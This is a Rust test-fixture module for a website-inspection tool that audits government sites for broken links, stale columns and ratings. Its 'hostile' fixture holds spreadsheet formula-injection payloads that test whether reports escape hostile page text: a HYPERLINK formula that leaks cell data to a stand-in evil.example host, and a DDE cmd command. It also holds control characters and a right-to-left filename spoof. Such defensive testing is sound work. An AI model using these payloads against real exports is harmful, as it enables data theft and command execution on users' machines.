//! Inspections for the tests of this module: nothing found, a small one, and one whose texts attack.

use std::collections::BTreeMap;
use std::io::{self, Write};

use jiff::civil::date;
use serde_json::json;

use crate::facts::SkipReason;
use crate::finding::{
    Coverage, DeadTarget, Draw, DrawRow, Evidence, Finding, FindingRecord, Grade, Inspection, ItemRating, Points, Rating, ReviewRecord,
    RunHead, SiteResult, Standing, State, StoppedTrap, Subject, TestRating, TestState,
};
use crate::standard::Part;

/// What a view writes, as text.
pub(super) fn written(view: impl Fn(&mut dyn Write) -> io::Result<()>) -> String {
    let mut bytes = Vec::new();
    view(&mut bytes).unwrap();
    String::from_utf8(bytes).unwrap()
}

fn head(mode: &str) -> RunHead {
    RunHead {
        run: format!("2026-11-23-{mode}"),
        mode: mode.into(),
        group: "示例市公安局".into(),
        as_of: date(2026, 11, 23),
        started_at: "2026-11-23T09:00:00+08:00".into(),
        finished_at: "2026-11-23T09:30:00+08:00".into(),
        complete: true,
        stopped: false,
        gaps: vec![],
        options: BTreeMap::from([("seed".into(), "20261123".into())]),
        version: "0.1.0".into(),
        wording: None,
        folder: None,
    }
}

fn site(id: &str, name: &str) -> SiteResult {
    SiteResult {
        id: id.into(),
        name: name.into(),
        url: format!("https://{id}.example.gov.cn/"),
        owner: "宣传处".into(),
        pages: 120,
        links: 3400,
        findings: BTreeMap::new(),
        coverage: Coverage {
            found: 150,
            pages: 120,
            files: 30,
            external: 40,
            requests: 210,
            bytes: 1_234_567,
            rate_limit: Some(2.0),
            peak_rate: 2,
            columns: 8,
            guides: 12,
            ..Coverage::default()
        },
        columns: Vec::new(),
        ratings: Vec::new(),
        certificate_days: Some(97),
        notes: Vec::new(),
    }
}

/// A run of one site without a finding.
pub(super) fn empty() -> Inspection {
    Inspection {
        head: head("monthly"),
        sites: vec![site("main", "示例公安网")],
        findings: vec![],
        reviews: vec![],
        dead_targets: vec![],
        draw: None,
        reading: vec![],
    }
}

/// A quarterly run of two sites, one of them incomplete.
pub(super) fn small() -> Inspection {
    let mut main = site("main", "示例公安网");
    main.findings = BTreeMap::from([("link-broken".into(), 1), ("column-stale".into(), 1)]);
    main.coverage.reviews = 1;
    main.coverage.columns_unjudged = 1;
    main.coverage.failed = BTreeMap::from([("http_404".into(), 1), ("timeout".into(), 2)]);
    main.coverage.skipped = BTreeMap::from([(SkipReason::Excluded, 7), (SkipReason::Trap, 3)]);
    main.coverage.traps = vec![StoppedTrap {
        pattern: "/calendar?month=…".into(),
        why: "日历类网址超出合理日期范围".into(),
        addresses: 3,
    }];
    let mut siming = site("siming", "思明分局");
    siming.coverage.gaps = vec!["超出页数上限，还有 30 页没有检查".into()];
    siming.coverage.robots_ignored = true;
    siming.coverage.rate_limit = None;
    siming.certificate_days = Some(-3);
    siming.notes = vec!["网站证书有问题：证书已过期".into()];
    siming.coverage.skipped = BTreeMap::from([(SkipReason::PageLimit, 30)]);
    let broken = Finding {
        rule: "link-broken".into(),
        grade: Grade::Minor,
        site: "main".into(),
        column: Some("警务要闻".into()),
        page_url: "https://www.example.gov.cn/a.htm".into(),
        page_title: Some("关于\"平安\"的通告,\n第二期".into()),
        message: "链接“附件”打不开：页面不存在（404）".into(),
        place: "正文链接“附件”".into(),
        target_url: Some("https://www.example.gov.cn/x.doc".into()),
        evidence: Evidence::from([
            ("cause".into(), json!("http_404")),
            ("status".into(), json!(404)),
            ("tries".into(), json!(3)),
        ])
        .into(),
        advice: "更正或删除该链接".into(),
        basis: "国办秘函〔2019〕19号 功能设计·可用性".into(),
        subject: Subject::target_on("https://www.example.gov.cn/x.doc", "https://www.example.gov.cn/a.htm"),
        remark: false,
        former_key: "not printed".into(),
    };
    let stale = Finding {
        rule: "column-stale".into(),
        grade: Grade::Serious,
        column: None,
        page_url: "https://www.example.gov.cn/tzgg/".into(),
        page_title: None,
        target_url: None,
        subject: Subject::column("https://www.example.gov.cn/tzgg/"),
        evidence: Evidence::new().into(),
        ..broken.clone()
    };
    Inspection {
        head: RunHead {
            complete: false,
            gaps: vec!["思明分局没有检查完".into()],
            ..head("quarterly")
        },
        sites: vec![main, siming],
        findings: vec![record("LJ-0a1b2c3d-00000001", broken), record("LM-0a1b2c3d-00000002", stale)],
        reviews: vec![ReviewRecord {
            rule: "column-stale".into(),
            site: "main".into(),
            column: Some("政策解读".into()),
            page_url: "https://www.example.gov.cn/zcjd/".into(),
            page_title: None,
            message: "栏目内容由脚本生成，请打开页面查看最新日期".into(),
        }],
        dead_targets: vec![DeadTarget {
            url: "https://www.example.gov.cn/x.doc".into(),
            cause: "http_404".into(),
            cause_text: "页面不存在（404）".into(),
            status: Some(404),
            tries: 3,
            sites: vec!["main".into(), "gone".into()],
            pages: 2,
            examples: vec!["https://www.example.gov.cn/a.htm".into(), "https://www.example.gov.cn/b.htm".into()],
        }],
        draw: Some(Draw {
            seed: 20_261_123,
            percent: 30,
            rows: [
                ("siming", "思明分局", 42, "drawn"),
                ("huli", "湖里分局", u64::MAX, "failed_last_time"),
            ]
            .map(|(site, name, ticket, outcome)| DrawRow {
                site: site.into(),
                name: name.into(),
                ticket,
                outcome: outcome.into(),
            })
            .to_vec(),
        }),
        reading: vec![],
    }
}

/// The small run with texts a hostile page could hold in every place that is read from pages.
pub(super) fn hostile() -> Inspection {
    let texts = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")".to_owned(),
        "+cmd|' /C calc'!A0".to_owned(),
        "-2+3".to_owned(),
        "@SUM(1)".to_owned(),
        "\t=1\r\n=2".to_owned(),
        "\0\u{1b}[31m=3".to_owned(),
        "第一行\n\"第二行\",\r第三行".to_owned(),
        "\u{202e}fdp.exe\u{202c}".to_owned(),
        "长".repeat(40_000),
    ];
    let mut inspection = small();
    let (found, review, dead) = (
        inspection.findings[0].clone(),
        inspection.reviews[0].clone(),
        inspection.dead_targets[0].clone(),
    );
    for text in texts {
        let mut next = found.clone();
        next.finding.page_title = Some(text.as_str().into());
        next.finding.column = Some(text.as_str().into());
        next.finding.message = text.as_str().into();
        next.finding.place = text.as_str().into();
        next.finding.target_url = Some(text.as_str().into());
        next.finding.evidence = Evidence::from([("text".into(), json!(text)), (text.clone(), json!([text, 1]))]).into();
        inspection.findings.push(next);
        inspection.reviews.push(ReviewRecord {
            column: Some(text.as_str().into()),
            page_title: Some(text.as_str().into()),
            message: text.clone(),
            ..review.clone()
        });
        inspection.dead_targets.push(DeadTarget {
            url: text.clone(),
            examples: vec![text.clone()],
            ..dead.clone()
        });
        inspection.sites.push(site(&text, &text));
    }
    inspection
}

fn record(id: &str, finding: Finding) -> FindingRecord {
    FindingRecord {
        id: id.into(),
        former_id: None,
        run: "2026-11-23-quarterly".into(),
        finding,
        first_seen: date(2026, 11, 20),
        seen_at: "2026-11-23T09:05:00+08:00".into(),
        owner: "宣传处".into(),
        due: Some(date(2026, 11, 30)),
        state: State::Open,
    }
}

/// [`small`] with one site rated by a small table: a deduction, a veto to confirm, and what a person judges.
pub(super) fn rated() -> Inspection {
    let test = |text: &str, state, points, note: &str, remains: &str| TestRating {
        text: text.into(),
        state,
        points,
        problems: if matches!(state, TestState::Holds | TestState::ToConfirm) {
            2
        } else {
            0
        },
        findings: if points > 0.0 || state == TestState::ToConfirm {
            vec!["LM-1-1".into(), "LM-2-2".into()]
        } else {
            vec![]
        },
        note: note.into(),
        remains: remains.into(),
        open: !remains.is_empty(),
        sample: vec![],
    };
    let item = |id: &str, part, title: &str, points, tests| ItemRating {
        id: id.into(),
        part,
        group: "更新".into(),
        title: title.into(),
        points,
        open: Some(1.0),
        distinct: None,
        tests,
    };
    let mut inspection = small();
    inspection.sites[0].ratings = vec![Rating {
        table: "local".into(),
        name: "本市加严".into(),
        standing: Standing::Open,
        points: Points {
            least: Some(91.0),
            most: 96.0,
            bonus: 0.0,
        },
        reference: true,
        reasons: vec!["严重错误（L1）：发现 2 处，须由人工确认".into()],
        items: vec![
            item(
                "L1",
                Part::Veto,
                "严重错误",
                0.0,
                vec![test(
                    "出现严重错别字",
                    TestState::ToConfirm,
                    0.0,
                    "发现 2 处，须由人工确认",
                    "请确认所列问题是否属实；其他由人工核查",
                )],
            ),
            item(
                "L2",
                Part::Deduct,
                "动态",
                4.0,
                vec![
                    test("每个栏目扣2分", TestState::Holds, 4.0, "发现 2 处", ""),
                    test("内容不准确扣1分", TestState::Human, 0.0, "机器不能判断", "内容由人工核查"),
                ],
            ),
            item(
                "L3",
                Part::Bonus,
                "数据发布",
                2.0,
                vec![test("有更新加2分", TestState::Holds, 2.0, "有更新", "")],
            ),
        ],
    }];
    inspection
}
